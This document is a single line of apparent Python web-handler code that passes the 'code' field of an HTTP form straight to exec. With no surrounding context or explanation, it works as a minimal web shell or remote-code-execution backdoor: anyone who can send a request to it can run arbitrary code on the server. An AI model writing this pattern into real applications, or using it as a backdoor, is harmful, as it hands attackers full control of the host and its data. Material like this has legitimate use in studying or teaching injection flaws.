exec(request.form["code"])
